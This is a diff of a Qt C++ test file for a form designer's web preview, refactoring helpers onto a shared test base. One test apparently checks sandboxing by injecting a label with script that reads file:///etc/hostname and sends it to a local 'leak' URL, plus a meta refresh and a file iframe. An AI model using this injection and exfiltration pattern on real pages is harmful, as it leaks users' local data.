@@ -23,30 +23,18 @@ QStringList previewFiles()
     return QDir(QDir::tempPath()).entryList({QStringLiteral("WFM*")}, QDir::Files, QDir::Name);
 }
 
-void addLabel(frmWebForm *form, const QByteArray &text)
-{
-    ItemGrid &grid = form->grid();
-    grid.addRow(grid.rows(), "Label");
-    grid.setText(grid.rows() - 1, ColLabel, text);
-}
-
 } // namespace
 
-class tst_View : public QObject
+class tst_View : public FrameTest
 {
     Q_OBJECT
-
-    std::unique_ptr<frmDesign> m_frame;
-    frmWebForm *m_form = nullptr;
 
 private slots:
     void init()
     {
-        resetSettings();
         for (const QString &file : previewFiles())
             QFile::remove(QDir(QDir::tempPath()).filePath(file));
-        m_frame = startFrame();
-        m_form = m_frame->activeForm();
+        startTest();
     }
 
     void cleanup()
@@ -118,16 +106,15 @@ private slots:
         PreviewPage::setUrlOpener([&handedOver](const QUrl &url) { handedOver << url; });
         const QString picture = QDir::temp().filePath(QStringLiteral("dot.png"));
         QImage(7, 5, QImage::Format_RGB32).save(picture);
-        addLabel(m_form, "<a id=\"l\" href=\"http://127.0.0.1:9/clicked\">link</a><script>"
-                         "document.title='ran'; document.getElementById('l').click();"
-                         "window.open('http://127.0.0.1:9/opened');"
-                         "fetch('file:///etc/hostname').then(r => r.text())"
-                         ".then(t => { location = 'http://127.0.0.1:9/leak?d=' + t; });</script>"
-                         "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/moved\">"
-                         "<iframe src=\"file:///etc/hostname\"></iframe>");
-        ItemGrid &grid = m_form->grid();
-        grid.addRow(grid.rows(), "Image");
-        grid.setText(grid.rows() - 1, ColDefault, QFile::encodeName(picture));
+        setRow(m_form, m_form->grid().rows(),
+               "Label|||<a id=\"l\" href=\"http://127.0.0.1:9/clicked\">link</a><script>"
+               "document.title='ran'; document.getElementById('l').click();"
+               "window.open('http://127.0.0.1:9/opened');"
+               "fetch('file:///etc/hostname').then(r => r.text())"
+               ".then(t => { location = 'http://127.0.0.1:9/leak?d=' + t; });</script>"
+               "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/moved\">"
+               "<iframe src=\"file:///etc/hostname\"></iframe>");
+        setRow(m_form, m_form->grid().rows(), "Image||" + picture);
         QSignalSpy loaded(m_form->webPreview(), &QWebEngineView::loadFinished);
         m_form->UpdateForm();
         QVERIFY(loaded.wait(20000));
@@ -181,7 +168,7 @@ private slots:
         m_form->UpdateForm();
         QCOMPARE(m_form->grid().rows(), 2); // the only row stays, empty as it is
         for (const char *label : {"a", "b", "c"})
-            addLabel(m_form, label);
+            setRow(m_form, m_form->grid().rows(), "Label|||" + QString(label));
         m_form->UpdateForm();
         QCOMPARE(m_form->grid().rows(), 4);
         QCOMPARE(m_form->grid().text(1, ColLabel), QByteArray("a"));
